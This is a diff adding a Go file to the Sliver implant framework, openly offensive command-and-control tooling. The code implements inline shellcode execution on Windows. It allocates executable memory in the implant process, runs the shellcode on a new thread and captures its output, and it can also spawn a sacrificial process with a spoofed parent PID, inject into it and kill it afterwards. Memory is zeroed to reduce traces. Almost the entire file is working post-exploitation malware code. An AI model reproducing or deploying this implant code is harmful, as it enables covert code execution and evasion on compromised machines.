@@ -0,0 +1,227 @@
+package taskrunner
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"io"
+	"os"
+	"runtime"
+	"sync"
+	"time"
+	"unsafe"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/implant/sliver/ntapi"
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+var (
+	// The std handles are process wide, only one in-process execution at a time
+	inlineMutex = &sync.Mutex{}
+)
+
+// InlineExecute - Run shellcode (a PE converted by donut) in the implant process or
+// a sacrificial process, and capture its output and exit code. In-process memory is
+// zeroed and freed afterwards, a sacrificial process is killed.
+func InlineExecute(data []byte, inProcess bool, procName string, procArgs []string, ppid uint32, timeout time.Duration, injection Injection) (*InlineResult, error) {
+	if inProcess {
+		return inlineLocal(data, timeout)
+	}
+	return inlineSacrificial(data, procName, procArgs, ppid, timeout, injection)
+}
+
+func inlineLocal(data []byte, timeout time.Duration) (*InlineResult, error) {
+	inlineMutex.Lock()
+	defer inlineMutex.Unlock()
+	if runtime.GOARCH == "amd64" {
+		err := refresh()
+		if err != nil {
+			return nil, err
+		}
+	}
+
+	stdoutRead, stdoutWrite, err := os.Pipe()
+	if err != nil {
+		return nil, err
+	}
+	defer stdoutRead.Close()
+	stderrRead, stderrWrite, err := os.Pipe()
+	if err != nil {
+		stdoutWrite.Close()
+		return nil, err
+	}
+	defer stderrRead.Close()
+	var stdout, stderr bytes.Buffer
+	wg := &sync.WaitGroup{}
+	wg.Add(2)
+	go func() {
+		defer wg.Done()
+		io.Copy(&stdout, stdoutRead)
+	}()
+	go func() {
+		defer wg.Done()
+		io.Copy(&stderr, stderrRead)
+	}()
+	restore := redirectStdHandles(windows.Handle(stdoutWrite.Fd()), windows.Handle(stderrWrite.Fd()))
+
+	result := &InlineResult{}
+	err = runLocalThread(data, timeout, result)
+	restore()
+	stdoutWrite.Close()
+	stderrWrite.Close()
+	wg.Wait()
+	if err != nil {
+		return nil, err
+	}
+	result.Stdout = stdout.Bytes()
+	result.Stderr = stderr.Bytes()
+	return result, nil
+}
+
+// redirectStdHandles - Point the process' stdout/stderr at the handles, returns a
+// function that restores the original handles
+func redirectStdHandles(stdout windows.Handle, stderr windows.Handle) func() {
+	oldStdout, _ := windows.GetStdHandle(windows.STD_OUTPUT_HANDLE)
+	oldStderr, _ := windows.GetStdHandle(windows.STD_ERROR_HANDLE)
+	windows.SetStdHandle(windows.STD_OUTPUT_HANDLE, stdout)
+	windows.SetStdHandle(windows.STD_ERROR_HANDLE, stderr)
+	return func() {
+		windows.SetStdHandle(windows.STD_OUTPUT_HANDLE, oldStdout)
+		windows.SetStdHandle(windows.STD_ERROR_HANDLE, oldStderr)
+	}
+}
+
+// runLocalThread - Run the shellcode in a new thread of the implant process and wait
+// for it to exit, the thread is terminated if it runs past the timeout
+func runLocalThread(data []byte, timeout time.Duration, result *InlineResult) error {
+	size := uintptr(len(data))
+	addr, err := sysAlloc(len(data), false)
+	if err != nil {
+		return err
+	}
+	defer freeLocal(addr, size)
+	syscalls.RtlCopyMemory(addr, uintptr(unsafe.Pointer(&data[0])), uint32(size))
+	var oldProtect uint32
+	err = ntapi.VirtualProtect(windows.CurrentProcess(), addr, size, windows.PAGE_EXECUTE_READ, &oldProtect)
+	if err != nil {
+		return err
+	}
+	threadHandle, err := ntapi.CreateThread(windows.CurrentProcess(), addr, uintptr(0), false)
+	if err != nil {
+		return err
+	}
+	defer windows.CloseHandle(threadHandle)
+	// {{if .Config.Debug}}
+	log.Printf("[*] Inline execution thread started at 0x%08x", addr)
+	// {{end}}
+	result.TimedOut = waitForThread(threadHandle, timeout)
+	if result.TimedOut {
+		syscalls.TerminateThread(threadHandle, 1)
+		windows.WaitForSingleObject(threadHandle, windows.INFINITE)
+	}
+	var exitCode uint32
+	err = syscalls.GetExitCodeThread(threadHandle, &exitCode)
+	if err != nil {
+		return err
+	}
+	result.ExitCode = int32(exitCode)
+	return nil
+}
+
+// freeLocal - Zero and free memory allocated for the shellcode
+func freeLocal(addr uintptr, size uintptr) {
+	var oldProtect uint32
+	err := windows.VirtualProtect(addr, size, windows.PAGE_READWRITE, &oldProtect)
+	if err == nil {
+		zeros := make([]byte, size)
+		syscalls.RtlCopyMemory(addr, uintptr(unsafe.Pointer(&zeros[0])), uint32(size))
+	}
+	windows.VirtualFree(addr, 0, windows.MEM_RELEASE)
+}
+
+func inlineSacrificial(data []byte, procName string, procArgs []string, ppid uint32, timeout time.Duration, injection Injection) (*InlineResult, error) {
+	var lpTargetHandle windows.Handle
+	err := refresh()
+	if err != nil {
+		return nil, err
+	}
+	var stdout, stderr bytes.Buffer
+	cmd, err := startProcess(procName, procArgs, ppid, false, &stdout, &stderr, true)
+	if err != nil {
+		return nil, err
+	}
+	result := &InlineResult{Pid: uint32(cmd.Process.Pid)}
+	defer func() {
+		cmd.Process.Kill()
+		cmd.Wait()
+	}()
+	handle, err := ntapi.OpenProcess(syscalls.PROCESS_DUP_HANDLE, true, result.Pid)
+	if err != nil {
+		return nil, err
+	}
+	defer windows.CloseHandle(handle)
+	currentProcHandle, err := windows.GetCurrentProcess()
+	if err != nil {
+		return nil, err
+	}
+	err = windows.DuplicateHandle(handle, currentProcHandle, currentProcHandle, &lpTargetHandle, 0, false, syscalls.DUPLICATE_SAME_ACCESS)
+	if err != nil {
+		return nil, err
+	}
+	defer windows.CloseHandle(lpTargetHandle)
+	threadHandle, err := injectRemote(lpTargetHandle, result.Pid, data, 0, nil, false, true, injection)
+	if err != nil {
+		return nil, err
+	}
+	defer windows.CloseHandle(threadHandle)
+	// {{if .Config.Debug}}
+	log.Printf("[*] Inline execution started in %s (%d)", procName, result.Pid)
+	// {{end}}
+	result.TimedOut = waitForThread(threadHandle, timeout)
+	if !result.TimedOut {
+		var exitCode uint32
+		err = syscalls.GetExitCodeThread(threadHandle, &exitCode)
+		if err != nil {
+			return nil, err
+		}
+		result.ExitCode = int32(exitCode)
+	}
+
+	// Kill the process and wait for exec to finish copying its output
+	cmd.Process.Kill()
+	cmd.Wait()
+	result.Stdout = stdout.Bytes()
+	result.Stderr = stderr.Bytes()
+	return result, nil
+}
+
+// waitForThread - Wait for the thread to exit, returns true if it timed out
+func waitForThread(threadHandle windows.Handle, timeout time.Duration) bool {
+	milliseconds := uint32(windows.INFINITE)
+	if 0 < timeout {
+		milliseconds = uint32(timeout / time.Millisecond)
+	}
+	event, _ := windows.WaitForSingleObject(threadHandle, milliseconds)
+	return event == uint32(windows.WAIT_TIMEOUT)
+}